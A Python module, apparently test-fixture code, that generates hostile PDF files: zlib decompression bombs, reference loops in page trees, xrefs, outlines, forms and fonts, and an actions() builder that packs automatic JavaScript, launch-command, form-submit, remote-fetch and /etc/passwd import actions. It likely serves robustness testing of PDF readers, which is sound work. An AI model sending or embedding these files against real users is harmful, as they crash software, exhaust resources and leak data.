"""PDFs made to harm who opens them: loops, bombs, lies about sizes, and actions."""

from __future__ import annotations

import zlib

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def pdf(objects, *, trailer=b"", root=1):
    """A PDF of numbered objects; each is the bytes between ``obj`` and ``endobj``."""
    out, places = b"%PDF-1.7\n", {}
    for number, data in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    at, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00001 f \n"
    return out + b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, at)


def stream(data, entries=b""):
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def shown(text, size=12):
    return b"BT /F1 %d Tf 60 700 Td (%s) Tj ET" % (size, text.encode("cp1252"))


def page(contents=5, parent=2, more=b""):
    return b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 4 0 R>>%s>>/Contents %d 0 R>>" % (
        parent, more, contents,
    )  # fmt: skip


def one_page(
    contents, *, more=b"", objects=(), pages=b"<</Type/Pages/Kids[3 0 R]/Count 1>>", catalog=CATALOG, trailer=b""
):
    base = {
        1: catalog,
        2: pages,
        3: page(more=more),
        4: FONT,
        5: contents if contents.startswith(b"<<") else stream(contents),
    }
    return pdf({**base, **dict(objects)}, trailer=trailer)


def bomb(megabytes, start):
    """Packed bytes of so many megabytes; one packed piece is repeated, so that making it takes no time."""
    piece = b" " * (1 << 20)
    packer = zlib.compressobj(9)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    body = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(start)
    for _ in range(megabytes):
        checksum = zlib.adler32(piece, checksum)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    return head + body * megabytes + last.flush() + checksum.to_bytes(4, "big")


def packed(megabytes, layers=1, start=b""):
    """A stream that unpacks to so many megabytes of spaces, packed several times over."""
    data = bomb(megabytes, start)
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[%s]" % (b"/FlateDecode" * layers))


def page_tree_loop():
    return one_page(shown("x"), pages=b"<</Type/Pages/Kids[3 0 R 2 0 R 2 0 R]/Count 3>>")


def declared_pages(count, text):
    return one_page(shown(text), pages=b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count)


def many_pages(count, text, repeat):
    """A small file of many pages that all show one long stream of text."""
    lines = b" ".join(
        b"BT /F1 9 Tf 40 %d Td (%s) Tj ET" % (800 - n % 760, text.encode("cp1252")) for n in range(repeat)
    )
    objects = {1: CATALOG, 4: FONT, 5: stream(zlib.compress(lines, 9), b"/Filter/FlateDecode")}
    objects |= {n: page() for n in range(10, 10 + count)}
    kids = b" ".join(b"%d 0 R" % n for n in range(10, 10 + count))
    return pdf({**objects, 2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)})


def forms(depth, width):
    """Forms that draw forms that draw forms: ``width ** depth`` times one word. A width of 0 is a form drawing itself."""
    objects = {}
    loops = width == 0
    for level in range(depth):
        number, following = 20 + level, 20 + (level if loops else level + 1)
        last = level == depth - 1 and not loops
        data = shown("ha") if last else b"/X Do " * max(width, 1)
        resources = b"/Font<</F1 4 0 R>>" + (b"" if last else b"/XObject<</X %d 0 R>>" % following)
        objects[number] = stream(data, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<<%s>>" % resources)
    return one_page(b"/X Do", more=b"/XObject<</X 20 0 R>>", objects=objects)


def image(text, side):
    picture = stream(zlib.compress(b"\0" * 1000), b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode" % (side, side))  # fmt: skip
    return one_page(shown(text) + b" q 595 0 0 842 0 0 cm /I Do Q", more=b"/XObject<</I 6 0 R>>", objects={6: picture})


def object_stream_bomb(text, megabytes):
    """Objects that stand in a stream of hundreds of megabytes."""
    inside = b"7 0 <</Hidden true>>"
    packed_objects = stream(bomb(megabytes, inside), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    rows = zlib.compress(b"".join(b"\1" + b"\0\0\0\0" + b"\0" for _ in range(8)))
    cross = stream(rows, b"/Type/XRef/Size 8/W[1 4 1]/Root 1 0 R/Filter/FlateDecode")
    return one_page(
        shown(text), objects={6: packed_objects, 8: cross}, catalog=b"<</Type/Catalog/Pages 2 0 R/Extensions 7 0 R>>"
    )


def xref_loop(text):
    data = one_page(shown(text))
    at = data.rindex(b"startxref\n") + 10
    start = data[at : data.index(b"\n", at)]
    return data.replace(b"trailer\n<<", b"trailer\n<</Prev %s" % start)


def actions(text, address):
    """Everything that a PDF can ask a viewer to do by itself: run, open, fetch, submit."""
    act = (
        b"<</S/JavaScript/JS(app.launchURL\\('%s/js'\\))/Next[<</S/URI/URI(%s/uri)>><</S/Launch/F(/bin/touch)/Win<</F(cmd)>>>>"
        b"<</S/SubmitForm/F(%s/form)>><</S/GoToR/F(%s/remote.pdf)/D[0/Fit]>><</S/ImportData/F(file:///etc/passwd)>>]>>"
        % ((address.encode(),) * 4)
    )
    outside = b"<</Length 0/F<</FS/URL/F(%s/stream)>>>>\nstream\n\nendstream" % address.encode()
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 6 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>>>"
    )
    return one_page(shown(text), objects={6: act, 7: outside}, catalog=catalog)


def label_loop(text):
    labels = b"<</Type/Catalog/Pages 2 0 R/PageLabels 6 0 R/Outlines 7 0 R>>"
    return one_page(shown(text), objects={6: b"<</Kids[6 0 R 6 0 R]/Limits[0 9]>>", 7: b"<</First 7 0 R/Next 7 0 R/Last 7 0 R/Title(x)>>"}, catalog=labels)  # fmt: skip


def nested_arrays(text, depth):
    return one_page(
        shown(text), objects={6: b"[" * depth + b"]" * depth}, catalog=b"<</Type/Catalog/Pages 2 0 R/X 6 0 R>>"
    )


def strange_page(box):
    return one_page(shown("x")).replace(b"[0 0 595 842]", box)


def glyphs_that_draw_themselves(text):
    glyph = stream(b"1000 0 d0 BT /T 1 Tf (a) Tj ET")
    font = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 7 0 R>>/Encoding<</Type/Encoding/Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</T 6 0 R>>>>>>"
    return one_page(shown(text) + b" BT /T 12 Tf (aaa) Tj ET", objects={6: font, 7: glyph}).replace(
        b"/F1 4 0 R>>", b"/F1 4 0 R/T 6 0 R>>", 1
    )


def map_loop(text):
    """A map to Unicode that includes itself and maps a range of a billion characters."""
    cmap = stream(
        b"/CIDInit /ProcSet findresource begin begincmap /X usecmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap end"
    )
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return one_page(shown(text), objects={4: font, 6: cmap})


def long_page(characters):
    line = b"BT /F1 1 Tf 1 0 0 1 10 %d Tm (%s) Tj ET "
    rows = b"".join(line % (n % 800, b"word " * 40) for n in range(characters // 200))
    return one_page(stream(zlib.compress(rows, 9), b"/Filter/FlateDecode"))


def many_paths(text, count):
    rows = shown(text) + b" " + b"1 1 2 2 re f " * count
    return one_page(stream(zlib.compress(rows, 9), b"/Filter/FlateDecode"))
